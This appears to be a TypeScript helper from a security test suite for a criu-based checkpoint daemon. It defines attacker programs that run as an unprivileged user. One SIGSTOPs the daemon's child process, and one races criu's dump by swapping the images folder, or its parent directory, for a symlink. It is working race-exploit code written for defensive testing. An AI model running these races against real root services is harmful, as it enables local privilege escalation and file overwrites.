/**
 * The attacker's moves that need timing, as small Node programs run AS THE ATTACKER (no root
 * help): each waits, with a bound, for the moment it exploits and acts at once.
 *  - stopRootHelper: the daemon's first child running with the attacker's uid (the `rm` of the
 *    previous checkpoint, which the daemon starts as the user) gets SIGSTOP, as any user may
 *    send to their own uid's processes: the daemon's request then waits as long as the
 *    attacker likes, between its checks of the request and its dump.
 *  - raceNewImages: as soon as criu writes into the daemon's DIR/checkpoint.new-XXXXXX (the
 *    folder's mtime changes: criu has started, the dump is under way), swap DIR itself, or that
 *    folder, for a symlink.
 */
import { spawnAsUser, type SuiteUser } from './security-users.js';

const STOPPER = `
const fs = require('fs');
const [daemon, uid, timeoutMs] = process.argv.slice(1).map(Number);
const deadline = Date.now() + timeoutMs;
const uidOf = (pid) => {
  try { return Number(/^Uid:\\s+(\\d+)/m.exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8'))[1]); } catch { return -1; }
};
for (;;) {
  const children = [];
  try {
    for (const task of fs.readdirSync('/proc/' + daemon + '/task')) {
      children.push(...fs.readFileSync('/proc/' + daemon + '/task/' + task + '/children', 'utf8').split(' ').filter(Boolean).map(Number));
    }
  } catch {}
  const mine = children.find((pid) => uidOf(pid) === uid);
  if (mine) {
    process.kill(mine, 'SIGSTOP');
    console.log(mine);
    break;
  }
  if (Date.now() > deadline) { console.error('no child of the daemon ran as uid ' + uid); process.exit(1); }
}
`;

const RACER = `
const fs = require('fs');
const [dir, mode, target, timeoutMs] = process.argv.slice(1);
const deadline = Date.now() + Number(timeoutMs);
for (;;) {
  let name;
  try { name = fs.readdirSync(dir).find((entry) => entry.startsWith('checkpoint.new-')); } catch {}
  if (name) {
    // Wait for criu's first file in it (its log): the daemon holds the folder open by then.
    const created = fs.statSync(dir + '/' + name).mtimeMs;
    while (fs.statSync(dir + '/' + name).mtimeMs === created) {
      if (Date.now() > deadline) { console.error('criu never wrote into ' + name); process.exit(1); }
    }
    if (mode === 'swap-dir') {
      fs.renameSync(dir, dir + '-moved');
      fs.symlinkSync(target, dir);
      const moved = dir + '-moved';
      console.log(JSON.stringify({ name, newStillThere: fs.existsSync(moved + '/' + name), okAlready: fs.existsSync(moved + '/checkpoint_ok') }));
    } else {
      fs.renameSync(dir + '/' + name, dir + '/decoy');
      fs.symlinkSync(target, dir + '/' + name);
      console.log(JSON.stringify({ name, newStillThere: true, okAlready: fs.existsSync(dir + '/checkpoint_ok') }));
    }
    break;
  }
  if (Date.now() > deadline) { console.error('no checkpoint.new-* appeared in ' + dir); process.exit(1); }
}
`;

/** Runs a Node program as USER; resolves to its stdout once it exits 0 (bounded). */
function runAs(user: SuiteUser, code: string, args: string[], timeoutMs: number): { done: Promise<string>; pid: number } {
  const child = spawnAsUser(user, [process.execPath, '-e', code, ...args]);
  let stdout = '';
  let stderr = '';
  child.stdout?.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
  child.stderr?.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  const done = new Promise<string>((resolve, reject) => {
    const timer = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`the attacker's program did not finish within ${timeoutMs} ms: ${stderr}`));
    }, timeoutMs + 5_000);
    child.on('close', (code) => {
      clearTimeout(timer);
      if (code === 0) resolve(stdout.trim());
      else reject(new Error(`the attacker's program failed (${code}): ${stderr}`));
    });
  });
  return { done, pid: child.pid as number };
}

/** Resolves to the PID of the daemon's child that ran as USER, stopped by USER. */
export function stopRootHelper(user: SuiteUser, daemonPid: number, timeoutMs = 30_000): Promise<number> {
  return runAs(user, STOPPER, [String(daemonPid), String(user.uid), String(timeoutMs)], timeoutMs).done.then(Number);
}

export interface RaceResult {
  /** The daemon's checkpoint.new-XXXXXX. */
  name: string;
  /** Right after the swap, the daemon had not renamed its new images yet: the swap came in time. */
  newStillThere: boolean;
  okAlready: boolean;
}

/** Starts watching DIR (as USER) for the daemon's new images folder; MODE says what to swap for a symlink to TARGET. */
export function raceNewImages(user: SuiteUser, dir: string, mode: 'swap-dir' | 'swap-new', target: string, timeoutMs = 30_000): Promise<RaceResult> {
  return runAs(user, RACER, [dir, mode, target, String(timeoutMs)], timeoutMs).done.then((out) => JSON.parse(out) as RaceResult);
}
